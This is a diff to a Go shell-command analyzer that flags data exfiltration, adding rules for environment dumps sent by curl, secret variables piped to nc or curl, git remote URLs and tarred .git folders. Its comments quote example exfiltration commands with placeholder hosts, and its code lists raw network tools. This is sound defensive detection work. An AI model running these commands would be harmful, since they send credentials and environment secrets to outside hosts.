@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"net/netip"
 	"net/url"
 	"path"
 	"slices"
@@ -535,6 +536,11 @@ func (a *analyzer) uploadArchive(name string, args []string, line string) {
 		case "project":
 			a.ask("exfil/project_to_host", "sends an archive of the whole project to another host", line, 0.85)
 			return
+		case "env":
+			// `env > /tmp/e; curl -F f=@/tmp/e URL`: the dump sent by way of a file, as
+			// `curl -d "$(env)" URL` sends it (det70)
+			a.add("exfil/env_to_network", "sends a file holding the environment over the network", line, 0.95)
+			return
 		}
 	}
 }
@@ -614,4 +620,90 @@ func (a *analyzer) otherUsers(p string) bool {
 		return false
 	}
 	return a.root != h && !strings.HasPrefix(a.root, h+"/")
+}
+
+// secretPiped judges a network command (name, args) that reads on its standard input what an
+// echo or printf of one secret variable printed (`echo "$AWS_SECRET_ACCESS_KEY" | nc H P`,
+// `printf %s "$OPENAI_API_KEY" | curl --data-binary @- URL`; issue 26, det70), as the variable
+// in curl's body is judged (authTarget): a raw connection or a URL to a bare IP address is
+// refused; an https URL of the service that issued the token (tokenIssuers) passes; any other
+// host is asked about, as a reviewer reads where it goes. ssh running sudo on the host it logs
+// in to (`echo "$PASS" | ssh h sudo -S CMD`) is the password's use, not its leak.
+func (a *analyzer) secretPiped(v, name string, args []string, line string) {
+	switch name {
+	case "nc", "ncat", "netcat", "socat", "telnet", "openssl":
+		if slices.ContainsFunc(args, func(x string) bool { return reLocalHost.MatchString(x) && localURL(x) }) {
+			return // a service on this machine (`echo "$API_TOKEN" | nc localhost 8080`)
+		}
+		a.add("exfil/secret_var", "sends a secret variable over a raw network connection", line, 0.9)
+		return
+	case "ssh":
+		if slices.Contains(args, "sudo") {
+			return
+		}
+	case "scp", "sftp", "rsync", "ftp":
+		return // they send files, not what they read
+	}
+	own := issuerHosts(v)
+	n, all := 0, 0 // URLs to a host that did not issue the token; URLs
+	for _, u := range args {
+		if !strings.Contains(u, "://") {
+			continue
+		}
+		p, err := url.Parse(u)
+		if err != nil {
+			continue
+		}
+		all++
+		h := strings.ToLower(p.Hostname())
+		ip, err := netip.ParseAddr(h)
+		switch {
+		case h == "localhost" || err == nil && ip.IsLoopback():
+			continue // a service on this machine
+		case err == nil:
+			a.add("exfil/secret_var", "sends a secret variable to a bare IP address", line, 0.9)
+			return
+		}
+		if p.Scheme != "https" || !slices.Contains(own, h) {
+			n++
+		}
+	}
+	if n > 0 || all == 0 {
+		a.ask("exfil/secret_var", "sends a secret variable to a host that did not issue it", line, 0.9)
+	}
+}
+
+// gitRemoteURL reports whether a git command prints a remote's URL, which may carry a user
+// and token (git-config(1) remote.<name>.url): `git config --get remote.origin.url`, `git
+// remote get-url origin`, `git config remote.origin.url`.
+func gitRemoteURL(name string, args []string) bool {
+	if name != "git" || len(args) < 2 {
+		return false
+	}
+	switch args[0] {
+	case "remote":
+		return args[1] == "get-url"
+	case "config":
+		return slices.ContainsFunc(args[1:], func(x string) bool {
+			return strings.HasPrefix(x, "remote.") && strings.HasSuffix(x, ".url")
+		})
+	}
+	return false
+}
+
+// gitTar reports whether tar's arguments write to its standard output an archive that holds a
+// repository's .git folder (`tar czf - .git`), and with it the .git/config.
+func gitTar(args []string) bool {
+	toStdout, create, git := false, false, false
+	for i, x := range args {
+		switch {
+		case path.Base(path.Clean(x)) == ".git":
+			git = true
+		case x == "-" && i > 0 && strings.HasSuffix(args[i-1], "f"):
+			toStdout = true
+		case strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") || i == 0:
+			create = create || strings.Contains(x, "c")
+		}
+	}
+	return create && git && toStdout
 }
